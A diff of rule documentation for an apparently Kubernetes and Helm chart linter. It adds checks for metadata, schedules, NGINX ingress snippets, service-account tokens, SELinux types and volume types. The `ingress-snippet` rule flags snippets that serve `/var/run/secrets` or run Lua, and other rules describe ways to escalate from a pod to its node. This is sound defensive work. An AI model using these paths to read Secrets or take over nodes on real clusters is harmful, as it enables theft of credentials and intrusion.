@@ -392,18 +392,34 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'invalid-manifest': {
     whatItChecks:
-      'The mistakes by which most rendered manifests are refused or in part ignored:\n\n- a number or boolean where Kubernetes takes text only: labels, annotations, environment\n  variables, commands, and the data of ConfigMaps and Secrets;\n- a field one level too high or too low, such as a probe in the pod, tolerations in the\n  Deployment, or `readOnlyRootFilesystem` in the security context of the pod;\n- a HorizontalPodAutoscaler without `maxReplicas`, or a term of a pod affinity or anti-affinity\n  without `topologyKey`;\n- a Job or CronJob whose pods have the restart policy `Always`, which is also the default.\n\nSelectors that miss their own pods are the matter of `selector-mismatch`. This rule does not\nhold every field against the schema of Kubernetes; a schema validator in CI does\n(see `unvalidated-manifests`). Fields that it does not know are not judged.',
+      'Every object of a built-in kind is held against the schema of the Kubernetes API:\n\n- fields that its kind does not have, such as a probe in the pod or `tolerations` in the\n  Deployment, with the name or the place that was probably meant;\n- values of another type, such as a number where only text is taken, or a list for a map;\n- words that are not among those that a field takes, quantities that are none, and data that is\n  not in base64;\n- required fields that are missing or empty;\n- kinds that Kubernetes does not have in that version;\n- keys that stand twice in one map, of medium severity, since Helm itself takes the last;\n- Jobs and CronJobs whose pods have the restart policy `Always`, which is also the default.\n\nOf custom resources only the metadata is judged, and the types of the pods that they embed; the\nreport says how many were skipped. A null is as good as nothing, as it is for Kubernetes. API\nversions that Kubernetes gave up are the matter of `removed-api-version`, previews of other\nreleases are not judged, and selectors that miss their own pods are the matter of\n`selector-mismatch`, and names and labels of `invalid-metadata`. At most ten places of one object are listed.',
     whyItMatters:
-      'YAML reads `port: 9090` and `enabled: yes` as number and boolean, and Helm hands them on. The\nAPI server then refuses the whole release, with a message that names neither template nor\nline. A misplaced field is worse, since nothing refuses it: the probe or the security setting\nthat the review saw is not there in production.',
+      "YAML reads `port: 9090` and `enabled: yes` as number and boolean, and Helm hands them on. The\nAPI server then refuses the whole release, with a message that names neither template nor\nline. A field that Kubernetes does not know is worse: Helm 4 applies on the server's side and\nrefuses it, but Helm 3 and `kubectl apply` without strict validation drop it, and the probe or the\nsecurity setting that the review saw is not there in production. A key that stands twice is\ntaken by Helm and refused by Kustomize, so a chart that works on a laptop fails under Flux.",
     howToFix:
-      'Pipe values that become text through `quote`: `{{ .Values.ledger.port | quote }}`. Check the\ndepth that `nindent` gives to blocks. Move misplaced fields to where they belong; the API\nreference, or `kubectl explain deployment.spec.template.spec`, shows the place.',
+      'Pipe values that become text through `quote`: `{{ .Values.ledger.port | quote }}`. Check the\ndepth that `nindent` gives to blocks. Move misplaced fields to where they belong; the API\nreference, or `kubectl explain deployment.spec.template.spec`, shows the place. Two blocks of\nlabels are merged with `merge` before `toYaml`, not written one below the other.',
     howToVerify:
       '`helm template <chart folder> | kubectl apply --dry-run=server --validate=strict -f -`\naccepts everything and prints no warning.',
     whenToWaive:
-      'Never for what is refused; for a misplaced field when a webhook reads it there.',
+      'Never for what is refused; for an unknown field when a webhook reads it there, or when it came with\na release of Kubernetes that is newer than the schema, which the finding names.',
     references: [
       'https://kubernetes.io/docs/reference/kubernetes-api/',
+      'https://kubernetes.io/docs/reference/using-api/api-concepts/#field-validation',
       'https://helm.sh/docs/chart_template_guide/function_list/#quote-and-squote',
+    ],
+  },
+  'invalid-metadata': {
+    whatItChecks:
+      'The name, the labels and the keys of the annotations of every object, those of pod templates, and what\nselectors ask for, against the rules of the API:\n\n- names: lower-case letters, digits, dashes and dots, a letter or digit at both ends of each part; at most\n  253 characters, 63 for Services and Namespaces, 52 for CronJobs. Roles and their bindings may hold other\n  characters but `/` and `%`.\n- label values: at most 63 letters, digits, dashes, underscores and dots, a letter or digit at both ends,\n  or nothing.\n- keys of labels and annotations: the same, optionally with a domain and a `/` before.',
+    whyItMatters:
+      'Templates put labels together from values: versions with a `+`, addresses with an `@`, image tags and\nrelease names that are longer than 63 characters. The chart renders, schema checks pass because the type is\nright, and the API refuses the object in the middle of the upgrade, when half of the release is new and\nhalf of it old.',
+    howToFix:
+      'Put free text into annotations, whose values may be anything. Bring versions into shape with\n`{{ .Chart.AppVersion | replace "+" "_" | trunc 63 | trimSuffix "-" | quote }}`, and names with\n`trunc 63 | trimSuffix "-"`, less what the template adds to them.',
+    howToVerify:
+      '`helm template . | kubectl apply --dry-run=server -f -` accepts every object, also with a release name of\n53 characters, which is as long as Helm allows.',
+    whenToWaive: 'Never: the API refuses the object.',
+    references: [
+      'https://kubernetes.io/docs/concepts/overview/working-with-objects/names/',
+      'https://kubernetes.io/docs/concepts/overview/working-with-objects/labels/#syntax-and-character-set',
     ],
   },
   'invalid-port': {
@@ -419,6 +435,22 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
     references: [
       'https://kubernetes.io/docs/concepts/services-networking/service/#multi-port-services',
       'https://www.rfc-editor.org/rfc/rfc6335#section-5.1',
+    ],
+  },
+  'invalid-schedule': {
+    whatItChecks:
+      "`schedule` of CronJobs, of Argo's CronWorkflows and of Velero's Schedules, read as their controllers read\nit: five fields or a macro such as `@daily`, numbers within their bounds, days of the week from 0 to 6 or\n`SUN` to `SAT`, and none of `L`, `W` and `#`, which other schedulers know. A date that no year has, such as\nthe 30th of February, is a finding too. So is a time zone within a CronJob's schedule, and\n`timeZone: Local`.",
+    whyItMatters:
+      'What runs at night is missed last. A backup with six fields, as Quartz and Spring write them, is refused\nwhen the chart is installed, and with a plain `kubectl apply` of many files the error is one line among\nhundreds. A custom resource is not refused at all: it is stored, never runs, and nobody is told until\nsomebody needs the backup.',
+    howToFix:
+      'Write five fields: minute, hour, day of the month, month, day of the week. Kubernetes has no seconds: for\nintervals below a minute use a service that waits between its runs. Put the time zone into\n`spec.timeZone`. The last day of a month is not to be had; run daily and let the job look at the date.',
+    howToVerify:
+      '`kubectl apply --dry-run=server -f` with the rendered file is accepted, and after the next time that the\nschedule names, `kubectl get cronjob` shows it under LAST SCHEDULE.',
+    whenToWaive:
+      'Never for CronJobs. For custom resources, where their controller reads more than is written here.',
+    references: [
+      'https://kubernetes.io/docs/concepts/workloads/controllers/cron-jobs/#schedule-syntax',
+      'https://pkg.go.dev/github.com/robfig/cron/v3#hdr-CRON_Expression_Format',
     ],
   },
   'job-without-limits': {
@@ -517,7 +549,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'missing-recommended-labels': {
     whatItChecks:
-      'The labels of workloads: `app.kubernetes.io/name` and `app.kubernetes.io/instance`. Helm adds\n`app.kubernetes.io/managed-by` itself. Hooks are left out.',
+      'The labels of workloads or of their pods: `app.kubernetes.io/name` and, in charts, `app.kubernetes.io/instance`. Helm adds\n`app.kubernetes.io/managed-by` itself. Hooks are left out.',
     whyItMatters:
       'During an incident the first question is what belongs to the failing service. With the common\nlabels one selector lists all of it, dashboards and log queries work for every service in the\nsame way, and cost and ownership reports attribute the load. A chart with labels of its own\nis missing from all of those.',
     howToFix:
@@ -706,7 +738,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'unstable-selector': {
     whatItChecks:
-      "The selectors of Deployments, StatefulSets, DaemonSets, ReplicaSets and Services, and the\nlabels of a StatefulSet's volume claim templates, for labels that hold the version of the\nchart or of the application: `helm.sh/chart`, `app.kubernetes.io/version`, `chart` with a\nversion in its value, and any label whose value is the same version.\n\nA constant such as Istio's `version: v1` is fine.",
+      "The selectors of Deployments, StatefulSets, DaemonSets, ReplicaSets and Services, and the\nlabels of a StatefulSet's volume claim templates, for labels that hold the version of the\nchart or of the application: `helm.sh/chart`, `app.kubernetes.io/version`, `chart` with a\nversion in its value, a `revision` that is a number, as Helm counts its releases, and any label whose\nvalue is the same version.\n\nA constant such as Istio's `version: v1` is fine.",
     whyItMatters:
       'Selectors and claim templates are fixed once the object exists. The first install works; the\nnext version asks for another selector, and Kubernetes refuses the change with "field is\nimmutable". The upgrade fails on the day it is needed, often half way, and the usual way out\nis to delete the workload, which is an outage. A Service\'s selector can be changed, but then\ntraffic leaves all running pods at once, before any new one is ready.',
     howToFix:
@@ -722,7 +754,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'best-effort-qos': {
     whatItChecks:
-      'Whether at least one container of a long-running pod requests CPU or memory, or the pod does as a\nwhole. A pod without any is in the quality-of-service class `BestEffort`.\n\nThe rules on single requests look at what each container lacks. This one is about the pod as a\nwhole, which the kubelet treats differently as soon as nothing is requested at all.',
+      'Whether at least one container of each pod requests CPU or memory, or the pod does as a whole. For Jobs\nand CronJobs a finding is of low severity. A pod without any is in the quality-of-service class `BestEffort`.\n\nThe rules on single requests look at what each container lacks. This one is about the pod as a\nwhole, which the kubelet treats differently as soon as nothing is requested at all.',
     whyItMatters:
       'When a node runs short of memory, the kubelet evicts best-effort pods before all others, and the\nkernel kills their processes first. All replicas tend to be hit in the same hour, since all nodes\ncarry the same peak. The service that nobody gave a number to is the one that goes.',
     howToFix:
@@ -774,7 +806,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'fail-closed-webhook': {
     whatItChecks:
-      'Admission webhooks whose `failurePolicy` is `Fail`, which it is when unset. It fails when the\nworkload that answers runs a single replica, and when the webhook is asked about pods (or what\nmakes pods) in every namespace without any selector, its own namespace included.\n\nA webhook that guards only kinds of its own is less severe. What answers from outside the chart\nmakes the outcome unknown.',
+      'Admission webhooks whose `failurePolicy` is `Fail`, which it is when unset. It fails when the\nworkload that answers runs a single replica, and when the webhook is asked about pods (or what\nmakes pods) in every namespace without any selector, its own namespace included.\n\nA finding is of high severity for a webhook that is asked only about what carries certain labels, and of\nmedium severity for one that guards kinds of its own or only changes of what is there. What answers from outside the chart\nmakes the outcome unknown.',
     whyItMatters:
       "The API server refuses every request that such a webhook should be asked about while it does not\nanswer. If that is pods, nothing new starts in the whole cluster: no autoscaling, no replacement\nfor lost nodes, no rollout of a fix. If its own pods are among them, it can't even come back by\nitself. One pod of one add-on, away for a minute, has stopped many a cluster for hours.",
     howToFix:
@@ -805,7 +837,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'in-chart-stateful-dependency': {
     whatItChecks:
-      "Databases, queues and caches that the chart's own templates run beside its services, known by\ntheir images. All pods of one product count together, so that a primary with its replicas passes.\n\nA chart that is nothing but the database is left out; its replicas are the matter of\n`single-replica`. Those of subcharts are the matter of `unreplicated-dependency`.",
+      "Databases, queues and caches that the chart's own templates run beside its services, known by\ntheir images. All pods of one product count together, so that a primary with its replicas passes.\n\nA chart that is nothing but the database is left out; its replicas are the matter of\n`single-replica`. Those of subcharts are the matter of `unreplicated-dependency`.\n\nFor memcached, which holds only what can be fetched again, a finding is of medium severity.",
     whyItMatters:
       'A service with five replicas and one database pod has the availability of one pod. A node drain\ntakes the database away for as long as its volume takes to move, a lost zone for as long as the\nzone is lost, and everything that needs it answers with errors meanwhile. Redundancy in front of a\nsingle point of failure is decoration.',
     howToFix:
@@ -852,7 +884,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'missing-graceful-shutdown': {
     whatItChecks:
-      "Whether the pods behind a Service do something to end their requests before they stop: a `preStop`\nhook of any container, or a flag, environment variable or configuration file of the release that\nspeaks of draining, graceful shutdown or termination. How well the process does it can't be seen\nin a chart, so any such sign passes.\n\nServices without a cluster IP and Services for metrics only are left out, since nobody's requests\nare spread through them, and so is the only pod of a StatefulSet, which has no other to hand over\nto.\n\nPlain manifests without any Service do not show who sends requests. There a declared port, other\nthan for metrics, is taken for a sign that somebody does, and the finding is of medium severity.",
+      "Whether the pods behind a Service do something to end their requests before they stop: a `preStop`\nhook of any container, a `terminationGracePeriodSeconds` above the default of 30, or a flag, environment variable or configuration file of the release that\nspeaks of draining, graceful shutdown or termination. How well the process does it can't be seen\nin a chart, so any such sign passes.\n\nServices without a cluster IP and Services for metrics only are left out, since nobody's requests\nare spread through them, and so is the only pod of a StatefulSet or of a Deployment with the strategy\n`Recreate`, which has no other to hand over to.\n\nPlain manifests without any Service do not show who sends requests. There a declared port, other\nthan for metrics, is taken for a sign that somebody does, and the finding is of medium severity.",
     whyItMatters:
       'When a pod is told to stop, the load balancers are told at the same moment and need some seconds\nto hear it. A process that ends at once refuses the requests that still arrive, and drops those\nthat it was working on. Users see a burst of 502s with every release, every scale-down and every\nnode drain: small enough to be shrugged off, and often enough to use up the error budget.',
     howToFix:
@@ -957,6 +989,21 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
       'https://kubernetes.io/docs/concepts/workloads/pods/pod-lifecycle/#restart-policy',
     ],
   },
+  'no-rollback-history': {
+    whatItChecks:
+      '`revisionHistoryLimit` of Deployments, StatefulSets, DaemonSets and Rollouts. Without it ten earlier\nversions are kept. The number 0 is a finding.',
+    whyItMatters:
+      'At three in the morning the fastest way out of a bad release is `kubectl rollout undo`, which takes\nseconds and needs neither the pipeline nor the chart\'s sources. With a limit of 0 the pod templates before\nthe current one are thrown away, and the command answers "no rollout history found". What is left is to\nfind the last good version and send it through the whole pipeline while the service is down.\n\nOld ReplicaSets without pods cost next to nothing.',
+    howToFix:
+      'Remove `revisionHistoryLimit`, or set it to at least 3, so that two bad releases in a row still leave one\nto go back to.',
+    howToVerify:
+      'Roll out a new image in a test cluster, then run `kubectl rollout undo`: the image of before is running\nagain within a minute.',
+    whenToWaive:
+      'Where every change, rollbacks included, goes through a GitOps controller that would undo the undoing, and\nthe time that takes has been measured.',
+    references: [
+      'https://kubernetes.io/docs/concepts/workloads/controllers/deployment/#clean-up-policy',
+    ],
+  },
   'recreate-strategy': {
     whatItChecks:
       'The update strategy of Deployments behind a Service. `Recreate` is reported; `RollingUpdate`,\nwhich is the default, passes.\n\nFor a single replica the finding is of low severity: it may hold a lock or a file that no second\none can share. A volume that only one node can mount forces\n`Recreate`, and `rwo-volume-deadlock` speaks about that.\n\nPlain manifests without any Service do not show who sends requests. There a declared port, other\nthan for metrics, is taken for a sign that somebody does, and the finding is of medium severity.',
@@ -1005,7 +1052,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'single-replica': {
     whatItChecks:
-      'The lowest number of replicas that a long-running workload may have: the minimum of the\nHorizontalPodAutoscaler or KEDA ScaledObject that targets it, else `spec.replicas`, else 1,\nwhich is what Kubernetes assumes.\n\nJobs, CronJobs, DaemonSets and Helm hooks are left out.',
+      'The lowest number of replicas that a long-running workload may have: the minimum of the\nHorizontalPodAutoscaler or KEDA ScaledObject that targets it, else `spec.replicas`, else 1,\nwhich is what Kubernetes assumes.\n\nJobs, CronJobs, DaemonSets and Helm hooks are left out. A Deployment to which no Service sends requests,\nother than for metrics, is a worker: a finding is of medium severity, on tier 1 of high severity.',
     whyItMatters:
       'A single replica is an outage waiting for a date. Every node drain, every crash, every\nrollout of a new version takes the whole service away until the one pod is back, and node\ndrains happen every few weeks in any cluster that is kept up to date.',
     howToFix:
@@ -1169,7 +1216,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'missing-backup': {
     whatItChecks:
-      'Whether something backs up what long-running workloads keep in persistent volumes: a job or\nsidecar for backups, a snapshot or backup schedule, the annotations of Velero, K8up and their\nlike, or a page in the repository about backups. Volumes for caches, temporary files, logs and\nplug-ins are left out. Where the repository is not known, the outcome is unknown.',
+      'Whether something backs up what long-running workloads keep in persistent volumes: a job or\nsidecar for backups, a snapshot or backup schedule, the annotations of Velero, K8up and their\nlike, or a page in the repository about backups. Volumes for caches, temporary files, logs and\nplug-ins are left out. Where the repository is not known, the outcome is unknown.\n\nFor stores of metrics, logs and traces a finding is of medium severity: what they lose is worth less each day.',
     whyItMatters:
       'Replicas protect against lost machines and not against lost data: a deletion is replicated within\nmilliseconds. A wrong migration, a removed namespace, ransomware or a storage system that fails\nleaves what was backed up, or nothing. It is found out on the day of the restore.',
     howToFix:
@@ -1502,7 +1549,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'host-path-mount': {
     whatItChecks:
-      "Every `hostPath` volume of a pod template. A finding is critical for the node's root folder and\nfor the sockets of the container runtime or the folders that hold them. It is one step less\nsevere for a DaemonSet that only reads the folder, as log and metric collectors do, or that\nwrites to one which is not the node's own. A socket that is mounted read-only takes commands\nall the same, so there it makes no difference.",
+      "Every `hostPath` volume of a pod template. A finding is critical for the node's root folder and\nfor the sockets of the container runtime or the folders that hold them. It is of medium\nseverity for a DaemonSet that only reads the folder, as log and metric collectors do, or that\nwrites to one which is not the node's own. A socket that is mounted read-only takes commands\nall the same, so there it makes no difference.",
     whyItMatters:
       "A `hostPath` volume is a hole in the wall between pod and node. Through the runtime's socket or\nthe root folder, whoever gets into the pod starts any container he likes and owns the node. Any\nother writable folder lets one pod fill the node's disk, at which point Kubernetes evicts its\nneighbours.\n\nIt also ties data to one machine. When the node is drained, the pod starts elsewhere with an\nempty folder, and what it stored is gone for the service though it still lies on a disk.",
     howToFix:
@@ -1532,6 +1579,22 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
       'https://kubernetes.io/docs/concepts/services-networking/service/',
     ],
   },
+  'ingress-snippet': {
+    whatItChecks:
+      'Annotations of Ingresses whose text goes into the configuration of an NGINX controller as it is\n(`configuration-snippet`, `server-snippet`, `auth-snippet` and the like). Text that serves files of the\ncontroller (`alias`, `root`, `/var/run/secrets`) or runs Lua is a finding of high severity, in any annotation.\nAlso the ConfigMap of a controller that sets `allow-snippet-annotations: "true"`.',
+    whyItMatters:
+      'The controller serves the whole cluster, and its account may read Secrets everywhere. A snippet is code that\nruns in it: who may edit an Ingress of one namespace reads the Secrets of all others (CVE-2021-25742).\nControllers since version 1.9 therefore ignore snippets unless told otherwise, and what the snippet was\nfor, such as an access check, is silently missing.\n\nIt is also a matter of availability: one misspelt directive makes the controller refuse every further\nconfiguration, so no Ingress of the cluster follows its pods any more.',
+    howToFix:
+      "Nearly all that snippets are used for has an annotation of its own: `custom-headers`, `proxy-body-size`,\n`rewrite-target`, `auth-url`, `whitelist-source-range`, `limit-rps`. What has none belongs into the\napplication, or into the controller's own ConfigMap, which its operators review.",
+    howToVerify:
+      'Remove the annotation in a test cluster and send the requests that it was for: `curl -i` shows the same\nheaders and status as before.',
+    whenToWaive:
+      'Where the controller serves this release alone and nobody else can edit its Ingresses.',
+    references: [
+      'https://github.com/kubernetes/kubernetes/issues/126811',
+      'https://kubernetes.github.io/ingress-nginx/user-guide/nginx-configuration/annotations-risk/',
+    ],
+  },
   'ingress-without-tls': {
     whatItChecks:
       'Every Ingress, Gateway (of the Gateway API and of Istio) and OpenShift Route: each host must be\nserved with TLS. Certificates that ingress controllers get by annotation count. A Gateway that\nlistens for HTTP beside HTTPS passes, since that is how redirects are made.\n\nWhere the class of the Ingress serves TLS by itself, or another Ingress of its group may bring the\ncertificate, the outcome is unknown.',
@@ -1548,9 +1611,40 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
       'https://gateway-api.sigs.k8s.io/guides/tls/',
     ],
   },
+  'long-lived-account-token': {
+    whatItChecks:
+      'Secrets of the type `kubernetes.io/service-account-token`, and, with low severity, ServiceAccounts that\nlist Secrets.',
+    whyItMatters:
+      "Since Kubernetes 1.24 a pod gets a token that is bound to it, is renewed every hour and is worth nothing\nonce the pod is gone. A Secret of this type holds one that is valid from anywhere until the Secret is\ndeleted. It lands in backups, in CI variables and in the state of infrastructure tools, and whoever finds it\na year later has the account's rights still. To take it back you delete the Secret, and with it all clients\nstop at once.",
+    howToFix:
+      "Within the cluster let the pod's projected token do it: clients that read\n`/var/run/secrets/kubernetes.io/serviceaccount/token` renew it by themselves. From outside use the identity\nof the cloud or of the pipeline (OIDC), or `kubectl create token deployer --duration=1h` for each run.",
+    howToVerify:
+      '`kubectl get secrets --field-selector type=kubernetes.io/service-account-token` prints nothing, and every\nclient still works after the Secret was removed in a test cluster.',
+    whenToWaive:
+      'For a client outside the cluster that can neither use OIDC nor renew a token. Give it a role of its own and\na date by which the Secret is replaced.',
+    references: [
+      'https://kubernetes.io/docs/concepts/configuration/secret/#serviceaccount-token-secrets',
+      'https://kubernetes.io/docs/reference/access-authn-authz/service-accounts-admin/',
+    ],
+  },
+  'low-user-id': {
+    whatItChecks:
+      '`runAsUser` and `runAsGroup` of every container, or of its pod, where they are set: numbers from 1 to\n9999 are findings of low severity. Root is a matter of `runs-as-root` and `runs-in-root-group`. Pods\nwith user namespaces of their own (`hostUsers: false`) are left out, and so are containers that leave\nthe choice to their image or, as on OpenShift, to the platform.',
+    whyItMatters:
+      'Without user namespaces a number means the same inside a container and on its node. Numbers below 1000\nbelong to services of the node, those from 1000 on to people. A process that breaks out of a container\nunder number 1000 owns the files of the first person who was given an account there. A number that\nnobody has owns nothing.\n\nThis is a third line of defence: root, capabilities and privilege escalation come first.',
+    howToFix:
+      'Choose a number of 10000 or above in the image (`USER 10001`) and in the chart, and set `fsGroup` so that\nthe volumes can be written. Data that is already there must change its owner: try it in a copy first. On\nKubernetes 1.33 and later `hostUsers: false` does the same for every image.',
+    howToVerify:
+      '`kubectl exec` into the container and run `id`: it prints a number of 10000 or above, and the service\nstill writes to its volumes.',
+    whenToWaive:
+      'Where the image or the data on its volume dictates the number.',
+    references: [
+      'https://kubernetes.io/docs/concepts/workloads/pods/user-namespaces/',
+    ],
+  },
   'missing-image-digest': {
     whatItChecks:
-      'Images that name a version by their tag: whether they name the digest of their content as well. One\nfinding lists all of a workload. Images without a fixed version are a matter of\n`mutable-image-tag`; the pods of `helm test` are left out.',
+      'Images that name a version by their tag: whether they name the digest of their content as well, in\nfull length. One finding lists all of a workload. Images without a fixed version are a matter of\n`mutable-image-tag`; the pods of `helm test` are left out.',
     whyItMatters:
       'A version tag is a promise, not a lock. Publishers do push fixes under the same tag, and an attacker\nwith the credentials of a registry replaces `1.4.2` without anybody seeing a change in the chart.\nReplicas that start later then run something else than those that started before. A digest is\ncomputed from the content, so the node refuses anything that differs.',
     howToFix:
@@ -1673,6 +1767,21 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
       'https://kubernetes.io/docs/tasks/configure-pod-container/create-hostprocess-pod/',
     ],
   },
+  'probe-host': {
+    whatItChecks:
+      '`host` in the `httpGet` and `tcpSocket` of every probe and lifecycle hook. A loopback address in a pod\nthat shares the network of its node is a finding of low severity.',
+    whyItMatters:
+      'Probes and hooks are called by the kubelet, from the node and not from the pod. A `host` makes it send\nrequests to any address that the node reaches, such as the metadata service of a cloud or an internal\nadmin page, and no NetworkPolicy sees them. The version 1.34 of the Pod Security Standards forbids it\nfrom the baseline on.\n\nIt also breaks the probe: a probe that asks another machine tells nothing about this container, so the\ncontainer is restarted, or taken out of its Services, because something else is down.',
+    howToFix:
+      'Remove `host`. If the process asks for a certain host name, send it as a header:\n`httpHeaders: [{ name: Host, value: payments.example.com }]`. If it listens on its loopback address only,\nlet it listen on all addresses, or use an `exec` probe.',
+    howToVerify:
+      '`kubectl get pod -o yaml` shows no `host` in probes, and the pod gets ready within the time that its\nreadiness probe gives it.',
+    whenToWaive:
+      'For pods of the control plane, which listen on the loopback address of their node on purpose.',
+    references: [
+      'https://kubernetes.io/docs/concepts/security/pod-security-standards/#baseline',
+    ],
+  },
   'public-service': {
     whatItChecks:
       'Services of type LoadBalancer without `loadBalancerSourceRanges` and without an annotation that makes\nthe load balancer internal (those of AWS, Azure, Google Cloud, OpenStack, IBM, Oracle and others),\nServices of type NodePort, and `externalIPs`.',
@@ -1771,7 +1880,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'runs-in-root-group': {
     whatItChecks:
-      '`runAsGroup` of every container, or of its pod: where it is written, it must not be 0. The same goes\nfor `supplementalGroups` and `fsGroup` of the pod, which add groups to every process. Left out are\ncontainers for which none of them is written, privileged ones, those on Windows, and those of `helm test`.\n\nWhether the user is root is for `runs-as-root`.',
+      '`runAsGroup` of every container, or of its pod: it must be there and not be 0, unless `runAsNonRoot`\nleaves the choice of user and group to the image. `supplementalGroups` and `fsGroup` of the pod, which add\ngroups to every process, must not hold 0. Left out are privileged containers, those on Windows, and those\nof `helm test`.\n\nWhether the user is root is for `runs-as-root`.',
     whyItMatters:
       'An ordinary user in group 0 may change whatever the image opens to that group, which in many images\nis the program itself and its configuration. On a volume or a folder of the node it may read what\nwas meant for root. The restriction to an ordinary user then restricts little, and after an intrusion\nthe image that failed over is as open as the one that was broken into.',
     howToFix:
@@ -1832,6 +1941,35 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
       'https://secrets-store-csi-driver.sigs.k8s.io/',
     ],
   },
+  'selinux-override': {
+    whatItChecks:
+      '`seLinuxOptions` of every container, or of its pod: the type must be one that container runtimes\ngive (`container_t`, `container_init_t`, `container_kvm_t`, `container_engine_t`) or left out,\nuser and role must be left out. The level may be set.',
+    whyItMatters:
+      'On nodes with SELinux the type of a process decides which files it may touch. It is the wall that\nstill stands when a container breaks out of its namespaces. A type such as `spc_t` or\n`unconfined_t` takes that wall away, so one hole in the runtime becomes control over the node and\nan outage of everything that runs there. Namespaces that enforce the baseline standard also refuse\nsuch pods: the rollout stands still with no pod created.',
+    howToFix:
+      'Remove `type`, `user` and `role`. If the container needs files of the node, mount them with the right\nlabel instead (`:z` in the volume of the node, or a CSI driver that labels them).',
+    howToVerify:
+      '`kubectl apply --dry-run=server` in a namespace with the label\n`pod-security.kubernetes.io/enforce: baseline` prints no warning and creates the pod.',
+    whenToWaive:
+      'For node agents that must read files of other containers, such as storage drivers and security\nscanners, on nodes of their own.',
+    references: [
+      'https://kubernetes.io/docs/concepts/security/pod-security-standards/#baseline',
+    ],
+  },
+  'shared-process-namespace': {
+    whatItChecks: '`shareProcessNamespace` of every pod.',
+    whyItMatters:
+      'With one process namespace every container of the pod lists the processes of all others, reads their\nenvironment and open files under `/proc`, Secrets included, and may send them signals. What was a hole\nin a log shipper becomes one in the service beside it. The process with the number 1 is no longer the\napplication but the pause container, so programs that count on that number to reload or to reap\nchildren behave otherwise than in every test.',
+    howToFix:
+      'Remove the field. To look into a running container use `kubectl debug`, which shares the processes of\none container for the time of the session. To have a sidecar reload the application, let it call an\nendpoint instead of sending a signal.',
+    howToVerify:
+      '`kubectl exec` into the sidecar and run `ps`: it lists no process of the application.',
+    whenToWaive:
+      'Where a sidecar must send signals to the application, such as one that reloads configuration on SIGHUP,\nand both come from the same team.',
+    references: [
+      'https://kubernetes.io/docs/tasks/configure-pod-container/share-process-namespace/',
+    ],
+  },
   'stale-pull-policy': {
     whatItChecks:
       'Containers whose image can change under its tag (see `mutable-image-tag`): the pull policy that\nholds for them must be `Always`, which is also what Kubernetes assumes for `latest` and for images\nwithout a tag. And all containers: the policy must not be `Never`.\n\nImages that are pinned to a version or a digest need no pull, so any other policy is fine for them.',
@@ -1846,6 +1984,21 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
     references: [
       'https://kubernetes.io/docs/concepts/containers/images/#image-pull-policy',
       'https://kubernetes.io/docs/concepts/containers/images/#updating-images',
+    ],
+  },
+  'token-mounting-account': {
+    whatItChecks:
+      '`automountServiceAccountToken` of ServiceAccounts in plain manifests that neither a pod nor a role binding\nof the same manifests names. With a pod the rule `automounted-service-account-token` looks at both\ntogether, and an account with rights is there for its token.',
+    whyItMatters:
+      'The default is to mount the token into every pod of the account. Accounts live longer than the pods they\nwere made for: the next workload that names this one gets credentials for the Kubernetes API that nobody\nthought of, and whoever breaks into it has a first foothold in the cluster.',
+    howToFix:
+      'Set `automountServiceAccountToken: false` on the account. A pod that does talk to the API sets it to `true` in\nits own spec, where a reviewer sees it.',
+    howToVerify:
+      '`kubectl exec` into a pod of the account and list `/var/run/secrets/kubernetes.io/serviceaccount`: there is\nno such folder, and the service still works.',
+    whenToWaive:
+      'For accounts of controllers whose pods are made elsewhere and always need the token.',
+    references: [
+      'https://kubernetes.io/docs/tasks/configure-pod-container/configure-service-account/',
     ],
   },
   'unconfined-apparmor': {
@@ -1893,6 +2046,22 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
       'https://kubernetes.io/docs/tasks/configure-pod-container/security-context/#proc-access',
     ],
   },
+  'unrestricted-volume-type': {
+    whatItChecks:
+      'The type of every volume. ConfigMaps, Secrets, projected volumes, the downward API, emptyDir, CSI\nvolumes, images and claims are permitted. Everything else (`nfs`, `iscsi`, `rbd`, `cephfs`,\n`awsElasticBlockStore`, `azureDisk` and the like) is a finding of low severity, `gitRepo` one of\nhigh severity. `hostPath` is a matter of `host-path-mount`.',
+    whyItMatters:
+      "A volume that names a server or a disk itself goes past everything that the cluster's operators\ndecided about storage: quota, encryption, backup, the zone that it lies in. When the server moves,\nevery pod that names it hangs in its mount until somebody edits the chart. Most of these types have\nbeen removed from Kubernetes, so the next upgrade of the cluster may refuse them, and namespaces that\nenforce the restricted standard refuse them today.\n\n`gitRepo` is worse: a repository can bring hooks that run as root on the node (CVE-2024-10220).",
+    howToFix:
+      'Describe the storage in a PersistentVolume or StorageClass, which the operators of the cluster own, and\nclaim it with a PersistentVolumeClaim. For Git repositories use an init container that clones into an\nemptyDir.',
+    howToVerify:
+      '`kubectl apply --dry-run=server` in a namespace with the label\n`pod-security.kubernetes.io/enforce: restricted` names no volume in its warnings.',
+    whenToWaive:
+      'For pods that run on clusters without a CSI driver for the storage in question.',
+    references: [
+      'https://kubernetes.io/docs/concepts/security/pod-security-standards/#restricted',
+      'https://kubernetes.io/docs/concepts/storage/volumes/',
+    ],
+  },
   'unsafe-sysctl': {
     whatItChecks:
       '`securityContext.sysctls` of every pod template: only the parameters that Kubernetes lists as safe\npass.',
@@ -1907,6 +2076,37 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
     references: [
       'https://kubernetes.io/docs/tasks/administer-cluster/sysctl-cluster/',
